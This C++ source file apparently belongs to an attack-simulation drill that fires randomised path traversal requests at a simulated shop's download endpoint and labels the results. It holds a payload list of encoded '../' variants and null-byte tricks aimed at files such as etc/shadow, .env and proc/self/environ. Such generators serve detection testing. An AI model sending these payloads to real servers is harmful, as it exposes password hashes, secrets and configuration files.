// The path traversal: well-known files, spelled in many ways and from many depths.
#include <fmt/format.h>

#include <algorithm>
#include <set>
#include <string>

#include "attacker.h"
#include "rng.h"

namespace quell::drill {
namespace {

using std::string_view;

// One step up, as written into the request target.
constexpr string_view kSteps[] = {"../",    "..%2f", "%2e%2e%2f", "%2e%2e/",         "..%252f",
                                  "....//", "..%5c", "..%c0%af",  "%252e%252e%252f", "..;/",
                                  ".%2e/",  "..//"};
constexpr string_view kFiles[] = {
    "etc/passwd", "etc/shadow",        "etc/hosts",      "settings.ini", "srv/shop/settings.ini",
    ".env",       "proc/self/environ", "windows/win.ini"};

/// Whether the answer is a file that nobody was to read.
bool is_secret(const Answer& answer) {
  return answer.status == 200 && (answer.body.find("root:x:0:0") != std::string::npos ||
                                  answer.body.find("session_key") != std::string::npos);
}

class Traverser {
 public:
  explicit Traverser(const Attacker::Means& means)
      : scenario_(means.scenario),
        rng_(scenario_.seed, "traverser"),
        attacker_(means, {scenario_.attack.traverser, scenario_.attack.traverser_agent},
                  {.address = scenario_.attack.traverser,
                   .vector = "traversal",
                   .endpoint = scenario_.shop.download.path,
                   .requests = {}}) {}

  AttackTruth run() {
    attacker_.look_around(rng_.between(1, 4));
    const std::size_t attempts = rng_.between(60, 200);
    for (std::size_t i = 0; i < attempts && !attacker_.stopped(); ++i) {
      std::string name;
      const string_view step = rng_.pick(kSteps);
      const std::size_t depth = rng_.between(1, 8);
      for (std::size_t up = 0; up < depth; ++up) name += step;
      name += rng_.pick(kFiles);
      if (rng_.chance(8)) name = "/" + std::string(rng_.pick(kFiles));
      if (rng_.chance(5)) name += "%00.txt";
      take(name);
    }
    return attacker_.take();
  }

 private:
  void take(const std::string& encoded_name) {
    const Answer answer = attacker_.ask(target_of(scenario_.shop.download, encoded_name));
    if (!is_secret(answer)) return;
    attacker_.last().outcome = Outcome::kData;
    if (seen_.insert(answer.body).second)
      attacker_.last().rows = static_cast<std::size_t>(std::ranges::count(answer.body, '\n'));
  }

  const Scenario& scenario_;
  Rng rng_;
  Attacker attacker_;
  std::set<std::string> seen_;  // files he has already
};

}  // namespace

AttackTruth traverse(const Attacker::Means& means) {
  return Traverser(means).run();
}

}  // namespace quell::drill
